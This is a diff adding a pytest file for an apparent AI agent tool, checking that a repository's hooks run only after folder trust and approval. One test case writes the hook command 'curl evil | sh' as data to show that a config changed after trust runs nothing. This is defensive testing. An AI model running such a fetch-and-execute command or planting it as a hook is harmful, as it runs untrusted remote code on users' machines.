@@ -1,0 +1,139 @@
+"""Hooks of a repository: only as it was trusted, asked for where a command would be."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from indwell.agent.hooks.book import HookBook
+from indwell.cli.folder_trust import FolderTrust
+from indwell.cli.hooks import hooks_of
+from indwell.settings.load import WORKSPACE_FILE
+from indwell.settings.model import Hook, Settings
+from indwell.workspace.disk import DiskWorkspace
+from support.bubblewrap import needs_bubblewrap
+from support.checked_project import READ, Project, a_project
+from support.session import asks, call, says
+
+HOOK = '[[hooks]]\nevent = "before_tool"\ncommand = "{}"\n'
+OWN = Settings(hooks=(Hook("turn_end", "own"),))
+
+
+def book_of(folder: Path, *, says_yes: bool) -> tuple[HookBook, Path]:
+    """The book of a folder with one hook, after the user's answer about it."""
+    work = (folder / "work").resolve()
+    (work / ".indwell").mkdir(parents=True)
+    (work / WORKSPACE_FILE).write_text(HOOK.format("theirs"))
+    trust = FolderTrust({"INDWELL_STATE": str(folder / "state")})
+    (standing,) = trust.look([work], Settings())
+    assert "and name commands to run as hooks: .indwell/config.toml" in standing.question
+    trust.answer(standing, trusted=says_yes)
+    trust.look([work], Settings())
+    return hooks_of(DiskWorkspace([work]), lambda: OWN, trust), work / WORKSPACE_FILE
+
+
+def commands(book: HookBook) -> list[tuple[str, bool]]:
+    return [(one.hook.command, one.is_own) for one in book.look().hooks]
+
+
+def test_the_users_run_first_and_a_projects_once_it_is_trusted(tmp_path: Path) -> None:
+    book, _ = book_of(tmp_path, says_yes=True)
+    assert commands(book) == [("own", True), ("theirs", False)]
+
+
+def test_tru_01_a_folder_that_is_not_trusted_has_no_hooks(tmp_path: Path) -> None:
+    book, _ = book_of(tmp_path, says_yes=False)
+    assert commands(book) == [("own", True)]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        HOOK.format("curl evil | sh"),
+        HOOK.format("theirs") + HOOK.format("more"),
+        "[[hooks]]\n",
+        "[",
+    ],
+)
+def test_tru_05_a_file_that_changed_since_has_none(text: str, tmp_path: Path) -> None:
+    book, path = book_of(tmp_path, says_yes=True)
+    path.write_text(text)
+    assert commands(book) == [("own", True)]
+
+
+def theirs(*commands_: str) -> dict[str, str]:
+    return {WORKSPACE_FILE: "".join(map(HOOK.format, commands_))}
+
+
+@needs_bubblewrap
+async def test_what_a_command_may_do_unasked_a_projects_hook_may(tmp_path: Path) -> None:
+    async with a_project(tmp_path, [READ, says()], files=theirs("echo mind; pwd")) as project:
+        await project.turn()
+        assert project.approver.questions == []
+        texts = said(project)
+        folder = project.folder
+        assert texts == [f'<project-hook event="before_tool">\nmind\n{folder}\n</project-hook>']
+
+
+@needs_bubblewrap
+@pytest.mark.parametrize(("answer", "n_ran"), [("once", 2), ("no", 0)])
+async def test_what_would_be_asked_for_is_asked_for_once_a_session(
+    answer: str, n_ran: int, tmp_path: Path
+) -> None:
+    files = {**theirs("touch here; echo ran"), "here": ""}
+    script = [READ, READ, says()]
+    async with a_project(
+        tmp_path, script, files=files, mode="ask", answers=[answer, "no"]
+    ) as project:
+        await project.turn()
+        (question,) = project.approver.questions
+        assert question.reason.startswith(
+            "a hook of this project for before_tool, asked once a session; "
+        )
+        assert len(said(project)) == n_ran
+        assert len(project.provider.requests) == 3
+
+
+@needs_bubblewrap
+async def test_a_yes_is_for_the_script_as_it_was(tmp_path: Path) -> None:
+    files = {**theirs("./hook.sh"), "hook.sh": "#!/bin/sh\necho x >> ran\n"}
+
+    async with a_project(
+        tmp_path, [READ, READ, says(), READ, says()], files=files, mode="ask", answers=["once"]
+    ) as project:
+        script = project.folder / "hook.sh"
+        script.chmod(0o755)
+        await project.turn()
+        assert len(project.approver.questions) == 1
+        script.write_text("#!/bin/sh\necho changed >> ran\n")
+        await project.turn()
+        assert len(project.approver.questions) == 2
+        assert (project.folder / "ran").read_text() == "x\n" * 2
+
+
+@needs_bubblewrap
+async def test_a_projects_hook_can_stop_a_call_as_well(tmp_path: Path) -> None:
+    files = theirs("echo 'not on Fridays'; exit 2")
+    async with a_project(tmp_path, [READ, says()], files=files) as project:
+        await project.turn()
+        result = project.provider.requests[-1].messages[-1].blocks[0].text
+        assert result == "not run: a hook of the project's stopped it: not on Fridays"
+
+
+@needs_bubblewrap
+async def test_a_broken_table_of_a_project_is_said_and_runs_nothing(tmp_path: Path) -> None:
+    files = {WORKSPACE_FILE: '[[hooks]]\nevent = "before_tool"\n'}
+    async with a_project(tmp_path, [asks(call("glob", pattern="*")), says()], files=files) as one:
+        assert (await one.turn()).ending == "done"
+        assert said(one) == []
+
+
+def said(project: Project) -> list[str]:
+    """What hooks said to the model."""
+    return [
+        block.text
+        for message in project.session.conversation.messages
+        for block in message.blocks
+        if block.meta.source == "hook"
+    ]
